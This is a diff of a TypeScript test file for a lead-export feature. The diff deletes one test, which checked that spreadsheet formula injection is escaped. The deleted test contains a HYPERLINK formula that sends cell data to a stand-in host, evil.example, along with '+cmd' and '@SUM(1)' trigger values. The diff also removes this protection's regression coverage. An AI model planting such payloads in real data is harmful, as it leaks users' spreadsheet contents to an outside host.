@@ -45,16 +45,6 @@ test('a supplier exports what it bought, with contacts, newest first, which is a
   expect(JSON.stringify(entries)).not.toContain(first.lead.email)
 })
 
-test('what a person typed is never run by the spreadsheet that opens it', async () => {
-  const { supplier, browser } = await signedInSupplier(product)
-  const company = '=HYPERLINK("https://evil.example?"&A1)'
-  await purchasedLead(product, supplier, { lead: { company, lastName: '+cmd', website: '@SUM(1)' } })
-  const [, row] = linesOf((await browser.get(PATH)).body)
-  expect(row).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`)
-  expect(row).toContain(",'+cmd,")
-  expect(row).toContain(",'@SUM(1),")
-})
-
 test('more purchases than one batch all arrive, and none twice', async () => {
   const { supplier, browser } = await signedInSupplier(product)
   const ids: string[] = []
